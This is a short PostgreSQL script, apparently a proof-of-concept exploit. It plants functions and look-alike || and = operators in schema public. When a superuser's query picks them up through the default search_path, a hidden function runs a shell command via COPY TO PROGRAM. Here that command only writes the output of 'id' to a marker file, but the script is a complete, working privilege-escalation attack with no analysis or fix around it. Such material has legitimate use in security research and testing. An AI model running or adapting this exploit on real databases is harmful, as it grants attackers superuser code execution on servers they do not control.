-- As any role in the database postgres, where everybody may create in schema public until PostgreSQL 14: operators and
-- functions that fit better than those of pg_catalog, for a superuser who asks with the default search_path.
CREATE OR REPLACE FUNCTION public.boom() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF EXISTS (SELECT FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user AND rolsuper) THEN
    EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id >>/var/tmp/homeport-attack-mark''';
  END IF;
  RETURN true;
END $$;
CREATE OR REPLACE FUNCTION public.glued(name, text) RETURNS text LANGUAGE sql AS
  'SELECT pg_catalog.concat($1, $2) WHERE public.boom()';
CREATE OR REPLACE FUNCTION public.glued(text, name) RETURNS text LANGUAGE sql AS
  'SELECT pg_catalog.concat($1, $2) WHERE public.boom()';
CREATE OR REPLACE FUNCTION public.same(name, text) RETURNS boolean LANGUAGE sql AS
  'SELECT $1::text OPERATOR(pg_catalog.=) $2 AND public.boom()';
CREATE OR REPLACE FUNCTION public.same("char", text) RETURNS boolean LANGUAGE sql AS
  'SELECT $1::text OPERATOR(pg_catalog.=) $2 AND public.boom()';
CREATE OR REPLACE FUNCTION public.glued(text, bigint) RETURNS text LANGUAGE sql AS
  'SELECT pg_catalog.concat($1, $2) WHERE public.boom()';
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = text, FUNCTION = public.glued);
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = name, FUNCTION = public.glued);
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = bigint, FUNCTION = public.glued);
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE OPERATOR public.= (LEFTARG = "char", RIGHTARG = text, FUNCTION = public.same);
